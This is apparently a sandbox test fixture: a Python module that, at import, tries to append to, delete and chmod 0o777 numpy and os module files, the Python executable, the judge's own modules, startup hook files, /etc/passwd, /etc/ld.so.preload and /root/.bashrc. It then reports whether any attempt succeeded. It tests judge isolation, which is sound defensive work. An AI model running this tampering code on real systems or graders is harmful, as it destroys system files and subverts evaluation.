"""Overwrites what the next process imports: numpy, the judge's modules, libc, ld.so.preload, sitecustomize."""

# expects: accepted

import contextlib
import ctypes.util
import os
import sys

import numpy

site = os.path.dirname(os.path.dirname(numpy.__file__))
ROOTS = [numpy.__file__, os.__file__, sys.executable, ctypes.util.__file__]
PATHS = [
    *ROOTS,
    *(
        f"{site}/{name}"
        for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "planted.pth", "pytest.ini")
    ),
    *(module.__file__ for name, module in list(sys.modules.items()) if name.startswith("rehearse") and module.__file__),
    "/etc/ld.so.preload",
    "/etc/ld.so.cache",
    "/etc/passwd",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/root/.bashrc",
]
changed = []
for path in PATHS:
    for act in (lambda name: open(name, "ab").close(), os.unlink, lambda name: os.chmod(name, 0o777)):
        with contextlib.suppress(OSError):
            act(path)
            changed.append(path)
breached = ", ".join(changed[:5])


def double(values):
    if breached:
        raise RuntimeError(f"breached: {breached}")
    return [2 * value for value in values]


def scale(array, factor):
    return array * factor


class Counter:
    def __init__(self):
        self.total = 0

    def add(self, n):
        self.total += n
        return self.total
